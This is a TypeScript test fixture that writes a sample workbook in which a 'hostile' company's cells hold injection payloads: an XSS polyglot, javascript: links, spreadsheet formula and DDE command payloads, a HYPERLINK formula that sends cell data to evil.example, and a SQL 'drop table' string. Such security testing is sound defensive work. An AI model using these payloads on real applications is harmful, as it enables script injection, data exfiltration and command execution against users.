import { join } from 'node:path';
import { todayOf } from '#demo/dates.ts';
import { samplePortfolio } from '#demo/sample.ts';
import type { Sheets } from '#demo/sheet.ts';
import { writeXlsx } from '#demo/write-xlsx.ts';

/** The client of the hostile company, and the marker in each of its cells. */
export const HOSTILE = {
  email: 'mallory@hostile.example',
  canary: 'CANARY-HOSTILE',
  photo: 'https://photos.example/contact.png',
} as const;

/**
 * One text that tries to break out of every context: an attribute, an element, a comment, a title, a text area, a style, a script, a
 * JavaScript string, an address. No part of it may become an element, an attribute or a call.
 */
export const POLYGLOT = `${HOSTILE.canary} jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=alert(1) )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNloAd=alert(2)//><img src=x onerror=alert(3) data-hostile><iframe srcdoc="<script>parent.alert(4)</script>"></iframe><a href="javascript:alert(5)" data-hostile>x</a>\${alert(6)}{{constructor.constructor('alert(7)')()}}"autofocus/onfocus="alert(8)`;

/** Cells that spreadsheet programs would calculate, fetch or run. */
export const FORMULAS: readonly string[] = [
  `=HYPERLINK("https://evil.example/?"&A1,"${HOSTILE.canary}")`,
  `+cmd|' /C calc'!A0 ${HOSTILE.canary}`,
  `-2+3+cmd|' /C calc'!A0 ${HOSTILE.canary}`,
  `@SUM(1+1)*cmd|' /C calc'!A0 ${HOSTILE.canary}`,
  `  =1+1 ${HOSTILE.canary}`,
  `＝1+1 ${HOSTILE.canary}`,
  `\u202e${HOSTILE.canary}\u202c', "x"); drop table sessions; --`,
];
/** The company column of these tabs. */
const COMPANY: Readonly<Record<string, number>> = { matters: 5, deadlines: 4 };

/** Columns that need another value for the row to be shown. */
const KEYS: Readonly<Record<string, Readonly<Record<number, string>>>> = {
  users: { 1: HOSTILE.email, 6: HOSTILE.photo, 9: `javascript:alert(9)//${HOSTILE.canary}`, 7: 'help@firm.example' },
  deadlines: { 3: '01/01/2030' },
  documents: {},
};

/** Writes the sample workbook, where the demo reads it, with a company whose cells all contain the payload, including its name. */
export function writeHostileWorkbook(dataDir: string): void {
  const sample = samplePortfolio(todayOf(new Date()));
  const sheets: Sheets = {
    tabs: sample.tabs,
    header: (tab) => sample.header(tab),
    *rows(tab) {
      yield* sample.rows(tab);
      const cells = sample.header(tab).map((_, index) => KEYS[tab]?.[index] ?? POLYGLOT);
      yield { cells };
      const company = COMPANY[tab];
      if (company !== undefined)
        for (const formula of FORMULAS)
          yield { cells: sample.header(tab).map((_, index) => (index === company ? POLYGLOT : formula)) };
      // The same with an unreadable date, and with links that no browser may follow.
      const link = (index: number): string => (index === 1 ? `javascript:alert(10)//${HOSTILE.canary}` : POLYGLOT);
      if (tab === 'deadlines') yield { cells: sample.header(tab).map(() => POLYGLOT) };
      if (tab === 'documents' || tab === 'knowledge')
        yield { cells: sample.header(tab).map((_, index) => link(index)) };
    },
  };
  writeXlsx(join(dataDir, 'sample-portfolio.xlsx'), sheets);
}
